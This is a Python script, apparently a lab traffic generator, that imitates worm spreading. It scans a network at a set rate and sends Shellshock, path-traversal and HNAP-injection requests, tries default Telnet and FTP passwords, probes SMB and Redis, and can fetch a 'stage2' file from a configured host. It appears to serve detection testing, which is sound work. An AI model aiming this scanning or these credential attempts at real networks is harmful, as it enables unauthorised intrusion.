"""A worm's habits without its harm: tries addresses in no order, knocks on a few ports, and where one opens, attempts an exploit.

`worm.py NETWORK SECONDS SEED --ports P,P --rate N [--workers N] [--lair URL]`. The "exploits" are requests that no server of the
lab falls for: a shell-shock header, a path traversal, a router's command injection, default passwords, an SMB negotiation.
"""

import argparse
import ipaddress
import random
import socket
import threading
import time
import urllib.request

WEB = [b"GET /cgi-bin/test.cgi HTTP/1.0\r\nUser-Agent: () { :; }; /bin/false\r\n\r\n",
       b"GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
       b"POST /HNAP1/ HTTP/1.0\r\nSOAPAction: http://purenetworks.com/HNAP1/`cd /tmp`\r\nContent-Length: 300\r\n\r\n" + b"A" * 300,
       b"POST /boaform/admin/formLogin HTTP/1.0\r\nContent-Length: 30\r\n\r\nusername=admin&password=admin1"]
SMB = b"\0\0\0\x54\xffSMB\x72\0\0\0\0\x18\x53\xc8" + bytes(26) + b"\0\x31\0\x02LANMAN1.0\0\x02LM1.2X002\0\x02NT LANMAN 1.0\0\x02NT LM 0.12\0"
LOGINS = [(b"root", b"root"), (b"admin", b"admin"), (b"root", b"xc3511"), (b"user", b"user"), (b"support", b"support")]


def exploit(end, port, rng):
    """What is sent through an open door."""
    if port in (80, 8080, 81):
        end.sendall(rng.choice(WEB))
        end.recv(2000)
    elif port in (21, 23, 2323):
        end.recv(400)
        for user, word in rng.sample(LOGINS, rng.randint(1, 3)):
            end.sendall((b"USER " if port == 21 else b"") + user + b"\r\n")
            end.recv(400)
            end.sendall((b"PASS " if port == 21 else b"") + word + b"\r\n")
            end.recv(400)
    elif port == 22:
        end.sendall(b"SSH-2.0-Go\r\n")
        end.recv(2000)
    elif port == 6379:
        end.sendall(b"*1\r\n$4\r\nINFO\r\n*3\r\n$3\r\nSET\r\n$1\r\nw\r\n$40\r\n" + b"*" * 40 + b"\r\n")
        end.recv(4000)
    else:
        end.sendall(SMB)
        end.recv(1000)


def attempt(target, port, patience_s, rng):
    """One knock; True when the door was open."""
    end = socket.socket(socket.AF_INET6 if ":" in target else socket.AF_INET)
    end.settimeout(patience_s)
    try:
        end.connect((target, port))
        end.settimeout(2.0)
        exploit(end, port, rng)
        return True
    except OSError:
        return False
    finally:
        end.close()


def main():
    """Spreads until the time is over."""
    parser = argparse.ArgumentParser()
    parser.add_argument("network")
    parser.add_argument("seconds", type=float)
    parser.add_argument("seed")
    parser.add_argument("--ports", default="445,80")
    parser.add_argument("--rate", type=float, default=20.0)
    parser.add_argument("--workers", type=int, default=16)
    parser.add_argument("--lair", default="")
    options = parser.parse_args()
    network = ipaddress.ip_network(options.network)
    ports = [int(port) for port in options.ports.split(",")]
    until = time.monotonic() + options.seconds
    order = [str(network[number]) for number in range(1, min(network.num_addresses - 1, 4096))]
    random.Random(options.seed).shuffle(order)

    def fetch_stage():
        """What a worm brings along comes from home."""
        try:
            urllib.request.urlopen(options.lair + "/stage2", timeout=3).read()
        except OSError:
            pass

    def work(number):
        rng = random.Random(f"{options.seed}/{number}")
        patience_s, turn = rng.choice([0.4, 1.0, 1.5]), number
        while (left := until - time.monotonic()) > 2.5:
            target, turn = order[turn % len(order)], turn + options.workers
            for port in ports if rng.random() < 0.5 else [rng.choice(ports)]:
                if attempt(target, port, patience_s, rng) and options.lair:
                    fetch_stage()
            time.sleep(min(rng.expovariate(options.rate / options.workers), max(left - 2.5, 0)))
    if options.lair:
        fetch_stage()
    threads = [threading.Thread(target=work, args=(number,)) for number in range(options.workers)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


main()
